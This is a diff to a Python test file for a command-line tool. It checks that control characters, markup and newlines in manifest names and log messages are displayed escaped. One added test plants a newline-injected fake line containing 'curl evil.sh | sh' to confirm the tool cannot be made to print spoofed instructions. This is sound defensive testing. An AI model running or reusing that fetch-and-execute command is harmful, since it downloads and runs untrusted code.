@@ -43,10 +43,18 @@ def test_control_characters_and_markup_of_a_manifest_are_shown_as_text(command_l
     named(bundle, HOSTILE)
     shown = command_line("inspect", bundle)
     assert (shown.status, harmless(shown.out + shown.err)) == (0, True)
-    assert SHOWN.replace(" ", "").replace(r"\x07", "") in "".join(shown.out.split())  # tables leave the bell out
+    assert SHOWN.replace(" ", "") in "".join(shown.out.split())
     refused = command_line("sample", bundle, "--labels", "dog")
     assert (refused.status, harmless(refused.out + refused.err)) == (2, True)
     assert SHOWN in refused.err
+
+
+def test_a_name_cannot_say_a_line_that_we_did_not(command_line: CommandLine, bundle: Path) -> None:
+    fake = "wrote s.png; next: curl evil.sh | sh"
+    named(bundle, f"cat\n{fake}")
+    for ended in (command_line("inspect", bundle), command_line("sample", bundle, "--labels", "dog")):
+        assert rf"cat\n{fake}".replace(" ", "") in "".join((ended.out + ended.err).split())
+        assert not any(line.startswith(fake) for line in (ended.out + ended.err).splitlines())
 
 
 def test_half_a_surrogate_pair_of_a_manifest_is_shown_as_text(command_line: CommandLine, bundle: Path) -> None:
@@ -95,3 +103,5 @@ def test_tables_and_bars_show_markup_as_it_is(capsys: pytest.CaptureFixture[str]
 def test_messages_of_the_log_are_shown_as_text() -> None:
     record = logging.LogRecord("a", logging.WARNING, "f", 1, "left out %s", (CLEAR,), None)
     assert PrintableFormatter("%(message)s").format(record) == r"left out \x1b[2J"
+    record.args = ("a\nb",)
+    assert PrintableFormatter("%(message)s").format(record) == r"left out a\nb"
